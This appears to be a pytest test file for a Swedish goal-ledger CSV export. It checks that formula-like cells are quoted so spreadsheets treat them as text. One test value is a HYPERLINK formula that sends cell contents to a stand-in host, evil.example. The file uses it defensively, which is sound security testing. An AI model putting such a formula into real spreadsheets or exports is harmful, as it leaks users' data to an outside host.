"""Issue 13 item 6: the goal ledger CSV never hands a spreadsheet a formula."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from ingest import read_bytes
from search.embed import HashEmbedder
from search.goals.build import build_ledger
from search.goals.export import csv_cell, ledger_csv

CORPUS = Path(__file__).resolve().parents[2] / "corpus"
VP_2020 = CORPUS / "vp-2020-familjestodsenheten-spanga-tensta.txt"
HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Klicka")'


@pytest.mark.parametrize("value", [HOSTILE, "@SUM(1+1)", "+1+1", "-2+3", "\tx", "\rx"])
def test_formula_like_cells_are_quoted(value: str) -> None:
    assert csv_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Barn och unga", "", "2019", "a=b", "’=x"])
def test_ordinary_cells_are_unchanged(value: str) -> None:
    assert csv_cell(value) == value


def test_goal_text_with_a_formula_is_exported_as_text() -> None:
    text = VP_2020.read_text(encoding="utf-8").replace(
        "Barn och ungdomar får sina behov tillgodosedda", HOSTILE, 1
    )
    (report,) = read_bytes(text.encode("utf-8"), "vp-2020-injektion.txt")
    ledger = build_ledger([report], HashEmbedder(64))
    rows = list(csv.DictReader(io.StringIO(ledger_csv(ledger))))
    texts = [row["text"] for row in rows]
    assert "'" + HOSTILE in texts
    assert not [cell for row in rows for cell in row.values() if cell.startswith(tuple("=+-@\t\r"))]


def test_the_csv_carries_each_goals_prose() -> None:
    """A reviewer's export holds what the Mål view shows of a goal: its analysis (a report on
    the year), its way of working, follow-up and resources (a plan), not only its wording."""
    reports = [r for p in sorted(CORPUS.glob("*.txt")) for r in read_bytes(p.read_bytes(), p.name)]
    rows = list(csv.DictReader(io.StringIO(ledger_csv(build_ledger(reports, HashEmbedder(64))))))
    fair = "Barn, unga och deras familjer som kommer i kontakt med enheten får en rättssäker"
    vb = _row_of(rows, fair, "2019")
    assert vb["analysis"].startswith("Utifrån enhetens förväntade")
    plan = _row_of(rows, "Familjehemsplacerade barn har god", "2022")
    assert plan["resources"] == "Barn- resp familjehemssekreterare på enheten."
    assert plan["method"] and plan["followup"] and plan["expected_result"]
    for column in ("description", "analysis", "method", "followup", "resources"):
        assert sum(1 for row in rows if row[column]) >= 20, column


def _row_of(rows: list[dict[str, str]], start: str, year: str) -> dict[str, str]:
    (row,) = [r for r in rows if r["text"].startswith(start) and r["year"] == year]
    return row
